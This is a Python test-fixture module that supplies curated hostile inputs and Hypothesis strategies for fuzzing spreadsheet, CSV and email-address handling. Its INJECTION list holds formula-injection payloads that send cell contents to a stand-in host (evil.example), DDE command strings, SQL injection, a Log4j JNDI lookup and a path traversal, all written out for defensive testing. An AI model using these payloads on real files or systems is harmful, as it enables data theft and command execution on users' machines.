"""Hostile inputs for the Python API, the CLI files and the Excel formulas (imported
as ``hostile_inputs``): curated attacks plus Hypothesis strategies built around them.

Curated means each entry stands for one way a sheet goes wrong on purpose or by
accident: formula and CSV injection, SQL text, confusable and invisible characters,
IDN, control characters and NUL bytes, lone surrogates, huge strings, Excel error
values, values that are not text at all.
"""

from __future__ import annotations

import datetime as dt
import math
import re
from decimal import Decimal
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

#: derandomized (a fixed seed), bounded, and nothing written to a .hypothesis folder
FIXED = settings(
    derandomize=True,
    database=None,
    deadline=None,
    max_examples=25,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

#: fewer examples where each one writes and reads workbooks
FIXED_FEW = settings(FIXED, max_examples=10)

#: a spreadsheet runs a cell starting with one of these as a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

INJECTION = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "x@example.com\n=1+1", "'; DROP TABLE answers; --", "x@example.com'); DELETE FROM claims;--",
    '" OR "1"="1', "1; ATTACH DATABASE '/tmp/x.db' AS x; --", "${jndi:ldap://evil.example/a}",
    "{{7*7}}@example.com", "<script>alert(1)</script>@example.com", "../../../etc/passwd",
    "%00%0a@example.com", "a,b;c\td@example.com", '"quoted, comma"@example.com',
]  # fmt: skip
UNICODE = [
    "\u0430dmin@example.com",  # Cyrillic a in the local part
    "admin@ex\u0430mple.com",  # Cyrillic a in the domain (an IDN homograph)
    "\uff46\uff4f\uff4f@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.\uff43\uff4f\uff4d",
    "user@b\u00fccher.de", "user@xn--bcher-kva.de", "\u7528\u6237@\u4f8b\u5b50.\u5e7f\u544a",
    "\u202eevil@example.com", "a\u200bb@example.com", "\ufeffbom@example.com",
    "foo@example\u3002com", "x@example.com\u2028", "\U0001f600@example.com",
    "caf\u00e9@exemple.fr", "\u00c5ngstr\u00f6m@example.se", "a\u0301@example.com",
    "\ud800@example.com", "a\udfffb@example.com",
]  # fmt: skip
CONTROL = [
    "\x00", "a\x00b@example.com", "x@example.com\x00", "\x1b[31mred@example.com",
    "\x1b]0;title\x07@example.com", "a\x08b@example.com", "\x7f@example.com", "a\x85b@example.com",
    "x@exa\nmple.com", "x@example.com\r\n", "\x0c@example.com",
]  # fmt: skip
SIZE = [
    "", " ", "@", "@@", "a@", "@b.com", "a@b", "a" * 65 + "@example.com",
    "a@" + "b" * 300 + ".com", "x" * 10_000, "x@" * 5_000, "a@" + ".".join(["b"] * 200) + ".com",
]  # fmt: skip
EXCEL = ["#N/A", "#REF!", " #VALUE! ", "#name?", "#SPILL!", "PENDING (1/3)", "#ERROR: x"]
NOT_TEXT: list[Any] = [
    None, 0, -1, 3.5, math.nan, math.inf, True, False, Decimal("1e999"), b"x@example.com",
    bytearray(b"\xff\xfe"), dt.date(2024, 2, 29), dt.datetime(1900, 1, 1), ["x@example.com"],
    {"email": "x@example.com"}, object(), -2146826246,
]  # fmt: skip
CURATED: list[Any] = INJECTION + UNICODE + CONTROL + SIZE + EXCEL + NOT_TEXT
CURATED_TEXT = [v for v in CURATED if isinstance(v, str)]

#: any character at all, lone surrogates and control characters included
_ANY_CHAR = st.characters(codec=None, exclude_categories=())
_TRICKY = st.sampled_from(
    list("=+-@\t\r\n\x00\x1b\"',;<>()[]\\%$#!*|`~ \u00a0\u200b\u202e\ufeff.") + ["\ud800"]
)
_PART = st.text(st.one_of(_ANY_CHAR, _TRICKY), max_size=12)


@st.composite
def _address_like(draw: st.DrawFn) -> str:
    """Something shaped like an address, with hostile characters anywhere."""
    local, domain = draw(_PART), draw(_PART)
    tld = draw(st.sampled_from(["com", "fr", "test", "", "c\u043em", "xn--p1ai"]))
    prefix = draw(st.sampled_from(["", "", "=", "+", "-", "@", " ", "mailto:", "<"]))
    return f"{prefix}{local}@{domain}.{tld}"


#: one hostile text cell
hostile_text = st.one_of(
    st.sampled_from(CURATED_TEXT), _address_like(), st.text(_ANY_CHAR, max_size=40)
)
#: one hostile cell of any type
hostile_value = st.one_of(
    hostile_text, st.sampled_from(NOT_TEXT), st.integers(), st.floats(), st.binary(max_size=20)
)

#: characters an .xlsx file cannot hold (openpyxl's own rule)
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SURROGATE = re.compile(r"[\ud800-\udfff]")


def xlsx_safe(text: str) -> str:
    """``text`` without what no .xlsx file can contain (for writing input workbooks)."""
    return _SURROGATE.sub("?", XML_ILLEGAL.sub("?", text))


def csv_safe(text: str) -> str:
    """``text`` encodable as UTF-8 (lone surrogates replaced) for writing input files."""
    return _SURROGATE.sub("?", text)


def counts_as_formula(value: Any) -> bool:
    """Whether a spreadsheet would run ``value`` as a formula (a plain number such as
    ``-1`` in a CSV file is read as that number, not run)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return False
    try:
        return not math.isfinite(float(value))
    except ValueError:
        return True
